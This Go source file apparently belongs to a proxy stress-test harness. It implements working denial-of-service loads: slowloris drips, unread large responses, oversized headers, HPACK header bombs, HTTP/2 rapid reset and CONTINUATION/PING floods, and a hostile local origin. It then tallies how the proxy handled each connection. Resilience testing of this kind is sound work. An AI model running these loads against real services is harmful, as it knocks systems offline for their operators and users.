package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/net/http2/hpack"
)

// A load is one way of being hostile.
type load struct {
	name, title string
	run         func(a *attack)
}

// loads lists every hostile load.
func loads() []load {
	return []load{
		{"loris", "1,000 clients that send a request a byte a second", func(a *attack) {
			a.drip(1000, "", "GET http://"+a.plain+"/1k HTTP/1.1\r\nX-Pad: ")
		}},
		{"loris-connect", "1,000 that send CONNECT so", func(a *attack) {
			a.drip(1000, "", "CONNECT "+a.plain+" HTTP/1.1\r\nX-Pad: ")
		}},
		{"loris-tls", "1,000 that send the TLS handshake in a tunnel so", func(a *attack) {
			a.drip(1000, a.connectTo(a.plain), "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
		}},
		{"loris-tunnel", "1,000 that send a request in a tunnel so", func(a *attack) {
			a.drip(1000, a.connectTo(a.plain), "GET /1k HTTP/1.1\r\nX-Pad: ")
		}},
		{"unread", "200 clients that ask for 100 MB and read nothing", func(a *attack) {
			a.hold(200, func(c net.Conn) error { return send(c, a.get(a.bad, pathBig+"100", "")) })
		}},
		{"unread-h2", "200 that ask for 100 MB in each of 10 streams of HTTP/2 and read nothing", func(a *attack) {
			a.hold(200, func(c net.Conn) error { return send(c, a.unread2()) })
		}},
		{"half-closed", "200 requests a second, whole and broken off, whose client closes its sending side", func(a *attack) {
			a.repeat(200, func(i int) { a.halfClose(i) })
		}},
		{"heads", "20 requests a second with heads of 1 MB", func(a *attack) {
			a.repeat(20, func(int) { a.ask(a.get(a.bad, "/any", padding(1_000_000)+lastRequest)) })
		}},
		{"heads-held", "200 clients that stop just before the end of a head of 1 MB", func(a *attack) {
			head := a.get(a.bad, "/any", padding(1_000_000))
			a.hold(200, func(c net.Conn) error { return send(c, head[:len(head)-1]) })
		}},
		{"heads-over", "20 requests a second with heads of 1.5 MB, which is too much", func(a *attack) {
			a.repeat(20, func(int) { a.ask(a.get(a.bad, "/any", padding(1_500_000)+lastRequest)) })
		}},
		{"heads-h2", "50 connections that ask 20 times at once with 300 bytes that decompress to heads of 1 MB", func(a *attack) {
			a.hold(50, func(c net.Conn) error { return send(c, a.bombs(20)) })
		}},
		{"reset", "100,000 streams of HTTP/2 that are reset at once, 10,000 a second", func(a *attack) { a.reset(100_000, 10_000) }},
		{"flood", "PING, SETTINGS and CONTINUATION by HTTP/2, 10,000 frames a second", func(a *attack) { a.flood(10_000) }},
		{"origins", "200 requests to origins that drip their answer, never end its head, or read nothing", func(a *attack) { a.origins() }},
	}
}

// An attack runs loads against one address and counts what became of its
// connections.
type attack struct {
	ctx       context.Context
	to, plain string // where the proxy is, or the sink; the well-behaved origin
	bad       string // the hostile origin
	wg        sync.WaitGroup

	mu    sync.Mutex
	fates map[string]int
}

func (a *attack) count(fate string) {
	a.mu.Lock()
	a.fates[fate]++
	a.mu.Unlock()
}

func (a *attack) outcome() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var parts []string
	for _, k := range slices.Sorted(maps.Keys(a.fates)) {
		parts = append(parts, fmt.Sprintf("%s %d", k, a.fates[k]))
	}
	return strings.Join(parts, ", ")
}

func (a *attack) spawn(fn func()) {
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		fn()
	}()
}

// dial opens a connection that ends with the attack.
func (a *attack) dial() (net.Conn, func()) {
	var d net.Dialer
	c, err := d.DialContext(a.ctx, "tcp", a.to)
	if err != nil {
		if a.ctx.Err() == nil {
			a.count("no connection")
		}
		return nil, nil
	}
	unhook := context.AfterFunc(a.ctx, func() { c.Close() })
	return c, func() { unhook(); c.Close() }
}

// pause waits, and reports whether the attack goes on.
func (a *attack) pause(d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-a.ctx.Done():
		return false
	case <-t.C:
		return true
	}
}

func send(c net.Conn, p []byte) error {
	_, err := c.Write(p)
	return err
}

func (a *attack) connectTo(origin string) string {
	return "CONNECT " + origin + " HTTP/1.1\r\nHost: " + origin + "\r\n\r\n"
}

func (a *attack) get(origin, path, more string) []byte {
	return []byte("GET http://" + origin + path + " HTTP/1.1\r\nHost: " + origin + "\r\n" + more + "\r\n")
}

const lastRequest = "Connection: close\r\n"

// padding is lines of a head, of about so many bytes.
func padding(size int) string {
	return strings.Repeat("X-Pad: "+strings.Repeat("a", 1014)+"\r\n", size/1023)
}

// fate reads to the connection's end and tells how it came.
func (a *attack) fate(c net.Conn) string {
	var first [64]byte
	n, err := io.ReadAtLeast(c, first[:], 12)
	answer := "closed"
	if n >= 12 && bytes.HasPrefix(first[:], []byte("HTTP/1.1 ")) {
		answer = "answered " + string(first[9:12])
	} else if n > 0 {
		answer = "answered by HTTP/2, then closed"
	}
	for err == nil {
		var sink [16 << 10]byte
		_, err = c.Read(sink[:])
	}
	switch {
	case a.ctx.Err() != nil && answer == "closed":
		return "held to the end"
	case errors.Is(err, syscall.ECONNRESET) && n == 0:
		return "reset"
	}
	return answer
}

// drip has n clients say something, await the answer to it, and then send the
// beginning of something else, and then more of it, a byte a second.
func (a *attack) drip(n int, greeting, begin string) {
	conns := make(chan net.Conn, n)
	a.spawn(func() {
		for range n {
			if !a.pause(time.Millisecond) {
				return
			}
			c, done := a.dial()
			if c == nil {
				continue
			}
			if greeting != "" {
				var answer [512]byte
				if send(c, []byte(greeting)) != nil {
					done()
					continue
				}
				c.Read(answer[:]) // what it is does not matter
			}
			a.spawn(func() { defer done(); a.count(a.fate(c)) })
			conns <- c
		}
	})
	a.spawn(func() {
		var all []net.Conn
		for i := 0; ; i++ {
			for more := true; more; {
				select {
				case c := <-conns:
					all = append(all, c)
				default:
					more = false
				}
			}
			b := byte('a')
			if i < len(begin) {
				b = begin[i]
			}
			for j, c := range all {
				c.Write([]byte{b}) // one that has ended was counted by its reader
				if j%50 == 49 && !a.pause(20*time.Millisecond) {
					return
				}
			}
			if !a.pause(max(100*time.Millisecond, time.Second-time.Duration(len(all)/50)*20*time.Millisecond)) {
				return
			}
		}
	})
}

// hold has n clients send something and then do nothing until the end. Small
// buffers of the system make an unread answer show soon.
func (a *attack) hold(n int, talk func(net.Conn) error) {
	for i := range n {
		a.spawn(func() {
			if !a.pause(time.Duration(i) * 5 * time.Millisecond) {
				return
			}
			c, done := a.dial()
			if c == nil {
				return
			}
			defer done()
			c.(*net.TCPConn).SetReadBuffer(16 << 10)
			if err := talk(c); err != nil && a.ctx.Err() == nil {
				a.count(a.fate(c))
				return
			}
			a.untilGone(c)
		})
	}
}

// untilGone waits until the other side has ended the connection, without
// reading from it.
func (a *attack) untilGone(c net.Conn) {
	for a.pause(200 * time.Millisecond) {
		if ended(c) {
			a.count(a.fate(c))
			return
		}
	}
	a.count("held to the end")
}

// repeat does something so many times a second.
func (a *attack) repeat(perSecond int, once func(i int)) {
	a.spawn(func() {
		for i := 0; a.pause(time.Second / time.Duration(perSecond)); i++ {
			a.spawn(func() { once(i) })
		}
	})
}

// ask sends a request that is its connection's last, and reads the answer.
func (a *attack) ask(request []byte) {
	c, done := a.dial()
	if c == nil {
		return
	}
	defer done()
	c.SetDeadline(time.Now().Add(time.Minute))
	a.spawn(func() { c.Write(request) })
	a.count(a.fate(c))
}

func (a *attack) halfClose(i int) {
	c, done := a.dial()
	if c == nil {
		return
	}
	defer done()
	request := a.get(a.plain, pathSmall, "")
	if i%2 == 1 {
		request = request[:len(request)/2]
	}
	send(c, request)
	c.(*net.TCPConn).CloseWrite()
	a.count(a.fate(c))
}

// hello2 begins HTTP/2 with windows that never get full.
func hello2() []byte {
	p := appendH2([]byte(h2Preface), h2Settings, 0, 0, appendH2Setting(nil, h2SettingInitialWindow, 1<<31-1))
	return appendH2Window(p, 0, 1<<31-1-h2Window)
}

func block2(e *hpack.Encoder, authority, path string) {
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: authority}, {Name: ":path", Value: path}} {
		e.WriteField(f)
	}
}

func (a *attack) unread2() []byte {
	p := hello2()
	for i := range 10 {
		var b bytes.Buffer
		block2(hpack.NewEncoder(&b), a.bad, pathBig+"100") // adds the same to the table each time
		p = appendH2(p, h2Headers, h2FlagEndHeaders|h2FlagEndStream, uint32(2*i+1), b.Bytes())
	}
	return p
}

// bombs are n requests whose heads are 250 times the same field of 4,000 bytes.
func (a *attack) bombs(n int) []byte {
	p := hello2()
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := range n {
		b.Reset()
		block2(e, a.plain, pathSmall)
		for range 250 {
			e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3500)})
		}
		p = appendH2(p, h2Headers, h2FlagEndHeaders|h2FlagEndStream, uint32(2*i+1), b.Bytes())
	}
	return p
}

// watch counts the connection's end, and closes it then: what is sent into one
// that the other side has ended is nothing to it.
func (a *attack) watch(c net.Conn) {
	a.spawn(func() {
		a.count(a.fate(c))
		c.Close()
	})
}

// reset opens streams and resets them at once, on as many connections as the
// other side makes necessary.
func (a *attack) reset(total, perSecond int) {
	const batch = 100
	a.spawn(func() {
		var c net.Conn
		done, id, sent := func() {}, uint32(1), 0
		defer func() { done() }()
		for sent < total && a.pause(time.Second*batch/time.Duration(perSecond)) {
			var p []byte
			if c == nil {
				if c, done = a.dial(); c == nil {
					done = func() {}
					continue
				}
				id, p = 1, hello2()
				a.watch(c)
			}
			for range batch {
				var b bytes.Buffer
				block2(hpack.NewEncoder(&b), a.plain, pathSmall)
				p = appendH2(p, h2Headers, h2FlagEndHeaders|h2FlagEndStream, id, b.Bytes())
				p = appendH2(p, h2Reset, 0, id, []byte{0, 0, 0, 8})
				id += 2
			}
			if send(c, p) != nil {
				done()
				c = nil
				continue
			}
			sent += batch
		}
		a.mu.Lock()
		a.fates["streams reset"] += sent
		a.mu.Unlock()
	})
}

// flood sends frames that cost work and bring nothing.
func (a *attack) flood(perSecond int) {
	const batch = 100
	var b bytes.Buffer
	block2(hpack.NewEncoder(&b), a.plain, pathSmall)
	ping := appendH2(nil, h2Ping, 0, 0, make([]byte, 8))
	settings := appendH2(nil, h2Settings, 0, 0, appendH2Setting(nil, h2SettingInitialWindow, 1<<20))
	empty := appendH2(nil, h2Continuation, 0, 1, nil)
	for _, kind := range []struct{ first, frame []byte }{{nil, ping}, {nil, settings}, {appendH2(nil, h2Headers, 0, 1, b.Bytes()), empty}} {
		a.spawn(func() {
			var c net.Conn
			done := func() {}
			defer func() { done() }()
			for a.pause(time.Second * 3 * batch / time.Duration(perSecond)) {
				p := bytes.Repeat(kind.frame, batch)
				if c == nil {
					if c, done = a.dial(); c == nil {
						done = func() {}
						continue
					}
					p = slices.Concat(hello2(), kind.first, p)
					a.watch(c)
				}
				if send(c, p) != nil {
					done()
					c = nil
				}
			}
		})
	}
}

// origins asks for what the hostile origin has: in the sink's case, the sink
// has it.
func (a *attack) origins() {
	a.hold(100, func(c net.Conn) error { return send(c, a.get(a.bad, "/drip", "")) })
	a.repeat(10, func(int) { a.ask(a.get(a.bad, "/endless", lastRequest)) })
	a.hold(50, func(c net.Conn) error {
		err := send(c, []byte("POST http://"+a.bad+"/unread HTTP/1.1\r\nHost: "+a.bad+"\r\nContent-Length: 100000000\r\n\r\n"))
		if err == nil {
			a.spawn(func() {
				for block := make([]byte, 64<<10); err == nil; {
					_, err = c.Write(block)
				}
			})
		}
		return err
	})
}

// serveBad is an origin that drips, never ends, or never reads, by what it is
// asked for.
func (a *attack) serveBad(l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		a.spawn(func() {
			defer context.AfterFunc(a.ctx, func() { c.Close() })()
			defer c.Close()
			var request [512]byte
			n, err := c.Read(request[:])
			switch text := string(request[:n]); {
			case err != nil:
			case strings.Contains(text, "/drip"):
				for answer := []byte("HTTP/1.1 200 OK\r\nX: "); a.pause(time.Second); answer = append(answer[1:], 'a') {
					if _, err := c.Write(answer[:1]); err != nil {
						return
					}
				}
			case strings.Contains(text, pathBig):
				block := make([]byte, 64<<10)
				for _, err := io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 100000000\r\n\r\n"); err == nil; {
					_, err = c.Write(block)
				}
			case strings.Contains(text, "/any"):
				lines := bufio.NewReaderSize(io.MultiReader(strings.NewReader(text), c), 64<<10)
				for line := []byte("-"); err == nil && len(line) > 2; {
					line, err = lines.ReadSlice('\n')
				}
				if err == nil {
					io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
				}
			case strings.Contains(text, "/endless"):
				io.WriteString(c, "HTTP/1.1 200 OK\r\n")
				for line := []byte(padding(16 << 10)); err == nil; {
					_, err = c.Write(line)
				}
			default:
				<-a.ctx.Done()
			}
		})
	}
}

// runAttack is the part "attack": it says "begun" once its clients had time to
// connect, and its outcome when it is told to end.
func runAttack(ctx context.Context, names []string, to, plain string, stdout io.Writer) error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	a := &attack{ctx: ctx, to: to, plain: plain, bad: l.Addr().String(), fates: map[string]int{}}
	a.spawn(func() { a.serveBad(l) })
	for _, ld := range loads() {
		if slices.Contains(names, ld.name) {
			ld.run(a)
		}
	}
	a.pause(1500 * time.Millisecond)
	fmt.Fprintln(stdout, "begun")
	<-ctx.Done()
	l.Close()
	a.wg.Wait()
	fmt.Fprintln(stdout, a.outcome())
	return nil
}

// serveSink reads whatever comes and throws it away: the neighbour of the
// quiet measurement. It says what keeps the loads going, and nothing else.
func serveSink(ctx context.Context, addr string) error {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { l.Close() })
	block := make([]byte, 64<<10)
	for {
		c, err := l.Accept()
		if err != nil {
			return nil
		}
		go func() {
			defer c.Close()
			buffer := make([]byte, 64<<10)
			for {
				n, err := c.Read(buffer)
				switch got := buffer[:n]; {
				case err != nil:
					return
				case bytes.HasPrefix(got, []byte("CONNECT ")):
					io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n")
				case bytes.Contains(got, []byte(pathBig)) && n < 4<<10:
					for err == nil {
						_, err = c.Write(block)
					}
					return
				}
			}
		}()
	}
}
